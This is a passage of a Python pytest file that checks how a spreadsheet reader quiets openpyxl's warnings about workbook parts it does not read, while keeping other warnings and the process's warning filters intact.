    names = b'<definedNames><definedName name="x" localSheetId="5">Sheet!$A$1</definedName>'
    return re.sub(rb"<definedNames ?/>", names + b"</definedNames>", data)


@pytest.mark.parametrize(
    ("patch", "warned"),
    [
        (_stale_sheet, "File contains an invalid specification"),
        (_no_stylesheet, "Workbook contains no stylesheet"),
        (_stray_defined_name, "Defined names for sheet index 5 cannot be located"),
    ],
)
def test_openpyxls_warnings_of_parts_not_read_are_not_the_callers(
    patch: Callable[[str, bytes], bytes | None], warned: str, recwarn: pytest.WarningsRecorder
) -> None:
    """openpyxl warns of each part when it loads the workbook; the reader warns of none."""
    content = _participants_xlsx(patch)
    with pytest.warns(UserWarning, match=warned):  # the file does make openpyxl warn
        openpyxl.load_workbook(io.BytesIO(content), read_only=True).close()
    recwarn.clear()
    warnings.simplefilter("always")  # every warning shown, within recwarn's own filters
    read_sheet(content, "participants", cohort_id="c")
    assert [str(w.message) for w in recwarn] == []


def test_the_reader_keeps_a_filter_another_thread_sets_while_it_reads(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The filter list is the process's: the reader neither restores it nor replaces it.

    Another thread sets a filter and warns while the workbook loads (here, from inside
    openpyxl's load): its filter stays after the read, its warning is shown, and every
    filter that was there before is there still, in its order.
    """
    load = openpyxl.load_workbook

    def meanwhile(*args: Any, **kwargs: Any) -> Any:
        warnings.filterwarnings("error", message="set meanwhile")
        warnings.warn("another thread's warning", UserWarning, stacklevel=1)
        return load(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", meanwhile)
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        before = list(warnings.filters)
        sheet = read_sheet(_participants_xlsx(_stale_sheet), "participants", cohort_id="c")
        after = list(warnings.filters)
    assert sheet.ok, sheet.problems
    assert [str(w.message) for w in seen] == ["another thread's warning"]
    set_meanwhile = ("error", re.compile("set meanwhile", re.IGNORECASE), Warning, None, 0)
    assert set_meanwhile in after
    ours = _sheets._QUIET_OPENPYXL
    assert [f for f in after if f not in (ours, set_meanwhile)] == [f for f in before if f != ours]


def test_only_openpyxls_own_warnings_of_parts_not_read_are_hidden() -> None:
    """The filter is narrow: openpyxl's other warnings, and everyone else's, are shown."""
    _sheets._quiet_openpyxl()
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        _sheets._quiet_openpyxl()  # first again, before the "always" just set
        for message, module in [
            ("Workbook contains no default style, apply openpyxl's default", "openpyxl.styles"),
            ("Unknown type for Ort", "openpyxl.packaging.custom"),
            ("Title is more than 31 characters", "openpyxl.workbook.child"),
            ("Workbook contains no default style", "somebody.else"),
        ]:
            warnings.warn_explicit(message, UserWarning, "f.py", 1, module=module)
    assert [str(w.message) for w in seen] == [
        "Title is more than 31 characters",
        "Workbook contains no default style",
    ]
